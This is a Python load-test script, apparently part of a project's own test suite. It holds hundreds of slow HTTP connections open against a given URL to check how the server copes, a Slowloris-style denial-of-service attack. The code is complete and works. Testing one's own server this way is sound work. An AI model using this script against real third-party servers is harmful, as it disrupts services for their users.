"""Slow clients, as many as one process can hold: silent connections, heads and bodies that drip. None has a log-in.

    python -m tests.load.attack URL [--heads 1000] [--bodies 100] [--source 127.0.0.2]

Prints one line when all are connected, keeps as many open until its input ends, then prints what it saw as JSON.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import sys
from collections import Counter
from contextlib import suppress
from urllib.parse import urlsplit

DRIP_EVERY_S = 1.0
HEAD = b"GET /work HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
BODY = (
    b"POST /api/session/ HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\nContent-Length: 2000\r\n\r\n{"
)


class Attack:
    """Keeps slow connections open, and a new one for each that the site closes.

    Attributes:
        seen: How connections ended, by the first line that the site sent, or `closed`.
    """

    def __init__(self, url: str, source: str) -> None:
        parts = urlsplit(url)
        self._host, self._port, self._source = parts.hostname or "127.0.0.1", parts.port or 80, source
        self.seen: Counter[str] = Counter()
        self.n_open = 0

    async def hold(self, beginning: bytes) -> None:
        """Keep one connection open: send `beginning`, then a byte a second (nothing, if it is empty)."""
        while True:
            try:
                await self._once(beginning)
            except OSError as error:
                self.seen[type(error).__name__] += 1
                await asyncio.sleep(DRIP_EVERY_S)

    async def _once(self, beginning: bytes) -> None:
        reader, writer = await asyncio.open_connection(self._host, self._port, local_addr=(self._source, 0))
        self.n_open += 1
        try:
            writer.write(beginning)
            ended = asyncio.ensure_future(reader.readline())
            while not (await asyncio.wait({ended}, timeout=DRIP_EVERY_S))[0]:
                if beginning:
                    writer.write(b"x")
            self.seen[ended.result().decode(errors="replace").strip() or "closed"] += 1
        finally:
            self.n_open -= 1
            with suppress(OSError):
                writer.close()


async def main() -> None:
    """Attack until the input ends."""
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    options.add_argument("url")
    options.add_argument("--heads", type=int, default=1000, help="half of them silent (default: %(default)s)")
    options.add_argument("--bodies", type=int, default=100)
    options.add_argument("--source", default="127.0.0.2", help="the address that they come from")
    chosen = options.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Attack(chosen.url, chosen.source)
    beginnings = [b"", HEAD] * (chosen.heads // 2) + [BODY] * chosen.bodies
    held = [asyncio.create_task(attack.hold(beginning)) for beginning in beginnings]
    await asyncio.sleep(2.0)
    print(f"{attack.n_open} slow connections", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    for task in held:
        task.cancel()
    await asyncio.gather(*held, return_exceptions=True)
    print(json.dumps(dict(attack.seen)), flush=True)


if __name__ == "__main__":
    asyncio.run(main())
